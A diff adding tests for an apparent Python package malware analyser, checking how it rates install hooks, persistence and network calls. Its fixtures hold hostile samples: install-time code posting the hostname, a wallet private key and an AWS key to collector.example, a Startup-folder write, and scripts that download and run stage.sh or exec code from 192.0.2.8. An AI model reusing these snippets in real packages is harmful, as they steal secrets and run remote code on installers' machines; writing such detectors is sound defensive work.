@@ -156,3 +156,163 @@ test('setup.py running a script the archive does not hold is high; a file given 
   const version = oddName.files.find((file) => file.path === 'demo/version');
   assert.equal(version?.findings.find((f) => f.rule === 'exfiltration')?.trigger, 'install');
 });
+
+test("setup.py's install hook calling into the package makes that code install-time, through re-exports", async () => {
+  const setup = [
+    'from setuptools import setup',
+    'from setuptools.command.install import install',
+    'class Install(install):',
+    '    def run(self):',
+    '        install.run(self)',
+    '        from demo import start',
+    '        start()',
+    'setup(name="demo", cmdclass={"install": Install})',
+  ].join('\n');
+  const report = await analyseTarget({
+    'demo-1.0/setup.py': setup,
+    'demo-1.0/src/demo/__init__.py': 'from .core import start\n',
+    'demo-1.0/src/demo/core.py': [
+      'import requests, socket',
+      'def start():',
+      '    requests.post("https://collector.example/in", data=socket.gethostname())',
+      'def later():',
+      '    requests.get("https://api.example/v1")',
+    ].join('\n'),
+  });
+  const core = report.files.find((file) => file.path === 'demo-1.0/src/demo/core.py');
+  assert.equal(core?.findings.find((f) => f.rule === 'exfiltration')?.trigger, 'install');
+  assert.equal(core?.findings.find((f) => f.line === 5)?.trigger, 'call', 'a function install code never reaches');
+  const joins = report.files.flatMap((f) => f.findings).filter((f) => f.rule === 'install-imports-module');
+  assert.deepEqual(
+    joins.map((f) => [f.path, f.calls]),
+    [
+      ['demo', ['start']],
+      ['demo.core', ['start']],
+    ],
+  );
+  assert.ok(['high', 'critical'].includes(report.risk), report.reasons.join(' | '));
+  // reading the version from the package imports it at install time, and calls none of its functions
+  const version = await analyseTarget({
+    'demo-1.0/setup.py':
+      'from setuptools import setup\nfrom demo import __version__\nsetup(name="demo", version=__version__)\n',
+    'demo-1.0/demo/__init__.py':
+      '__version__ = "1.0"\nimport requests\ndef fetch():\n    return requests.get("https://api.example/v1")\n',
+  });
+  const init = version.files.find((file) => file.path === 'demo-1.0/demo/__init__.py');
+  assert.equal(init?.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'call');
+  assert.equal(version.risk, 'low', version.reasons.join(' | '));
+});
+
+test("a function that posts the wallet private key it is given sends the user's key (high, even when called)", () => {
+  const drainer = findings(
+    'import requests\ndef perm(private_key):\n    requests.post("https://collector.example/tron", json={"private_key": private_key})\n',
+  );
+  const sent = ruleOf(drainer, 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /wallet secret given as private_key/);
+  // signing locally and sending the signature, or a database primary key, is no key sent
+  const signer = findings(
+    'import requests\ndef send(private_key, tx, pk):\n    signed = sign(tx)\n    requests.post("https://rpc.example", json={"tx": signed, "id": pk})\n',
+  );
+  assert.equal(ruleOf(signer, 'exfiltration'), undefined);
+});
+
+test('setup.py naming an autostart folder is high even through a variable; a module constant on import is data', () => {
+  const setup = findings(
+    'import os\nnewpath = rf"C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"\nos.makedirs(newpath)\n',
+    'setup.py',
+  );
+  assert.equal(ruleOf(setup, 'persistence')?.severity, 'high');
+  // on import, a module constant naming it (used by a function the user calls) is data
+  const constant = findings(
+    'STARTUP = r"Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"\ndef where():\n    return STARTUP\n',
+  );
+  assert.equal(ruleOf(constant, 'persistence')?.severity, 'medium');
+});
+
+test('sys.executable started with inline code on import reads as python -c: high', () => {
+  const list = findings(
+    'import subprocess, sys\nsubprocess.Popen(f\'{sys.executable} -c "import time; time.sleep(600)"\')\n',
+  );
+  const launch = ruleOf(list, 'process-launch-payload');
+  assert.equal(launch?.severity, 'high');
+  assert.match(launch!.message, /another Python running inline code/);
+});
+
+test("a provider's secret sent to a hard-coded host of another owner is high; to its own service it is not", () => {
+  const stolen = findings(
+    'import os, requests\ndef check():\n    requests.get("https://collector.example/k/" + os.environ["AWS_ACCESS_KEY_ID"])\n',
+  );
+  const sent = ruleOf(stolen, 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /a host that is not AWS's/);
+  const own = findings(
+    'import os, requests\ndef me():\n    requests.get("https://api.github.com/user", headers={"Authorization": os.environ["GITHUB_TOKEN"]})\n',
+  );
+  assert.notEqual(ruleOf(own, 'exfiltration')?.severity, 'high');
+});
+
+test('a network library sending through an object passed in is egress; a generator in a plain module is not', () => {
+  const session = analyzePythonFile(
+    'requests/sessions.py',
+    new TextEncoder().encode('def send(self, request, adapter):\n    return adapter.send(request)\n'),
+  )[0];
+  assert.equal(session.egress, true);
+  assert.equal(session.findings[0]?.rule, 'egress-via-object');
+  const channel = findings(
+    'import socket\nclass Channel:\n    def write(self, m):\n        self.transport._send_user_message(m)\n',
+  );
+  assert.equal(ruleOf(channel, 'egress-via-object')?.severity, 'info');
+  const generator = analyzePythonFile(
+    'demo/pipeline.py',
+    new TextEncoder().encode('def drive(gen, items):\n    for item in items:\n        gen.send(item)\n'),
+  )[0];
+  assert.equal(generator.egress, false);
+});
+
+test('setup.py running python -c "import pkg.post; pkg.post.run()" makes that function install-time; a downloaded script run is download-execute', async () => {
+  const report = await analyseTarget({
+    'demo-1.0/setup.py': [
+      'import subprocess',
+      'from setuptools import setup',
+      'subprocess.run(["python", "-c", "import demo.post; demo.post.run()"])',
+      'setup(name="demo")',
+    ].join('\n'),
+    'demo-1.0/demo/__init__.py': '',
+    'demo-1.0/demo/post.py': [
+      'import os, subprocess, urllib.request',
+      'def run():',
+      '    path = os.path.expanduser("~/stage.sh")',
+      '    urllib.request.urlretrieve("https://files.example/stage.sh", path)',
+      '    subprocess.run(["/bin/bash", path])',
+    ].join('\n'),
+  });
+  const post = report.files.find((file) => file.path === 'demo-1.0/demo/post.py');
+  const dropper = post?.findings.find((f) => f.rule === 'download-execute');
+  assert.equal(dropper?.trigger, 'install');
+  assert.equal(dropper?.severity, 'critical');
+  // a script the code writes itself (not downloaded) and runs is ordinary: no dropper finding
+  const local = findings(
+    'import subprocess\ndef gen():\n    open("build.sh", "w").write("make")\n    subprocess.run(["sh", "build.sh"])\n',
+  );
+  assert.equal(ruleOf(local, 'drop-and-run'), undefined);
+  assert.equal(ruleOf(local, 'download-execute'), undefined);
+});
+
+test('Python code written into a file to be run later is analysed as its own file', () => {
+  const reports = analyzePythonFile(
+    'demo/mod.py',
+    new TextEncoder().encode(
+      'import os, sys, tempfile\ndef get():\n    t = tempfile.NamedTemporaryFile(delete=False)\n    t.write(b"from urllib.request import urlopen;exec(urlopen(\'http://192.0.2.8/x\').read())")\n    t.close()\n    os.system(f"{sys.executable} {t.name}")\n',
+    ),
+  );
+  assert.equal(reports[0].findings.find((f) => f.rule === 'python-code-written')?.severity, 'info');
+  const payload = reports.find((report) => report.path === 'demo/mod.py#decoded-1');
+  assert.ok(payload?.findings.some((f) => f.rule === 'download-execute' && ['high', 'critical'].includes(f.severity)));
+  // plain text written to a file is not code
+  const notes = analyzePythonFile(
+    'demo/notes.py',
+    new TextEncoder().encode('def save(f):\n    f.write("remember to import the data before the meeting")\n'),
+  );
+  assert.equal(notes.length, 1);
+});
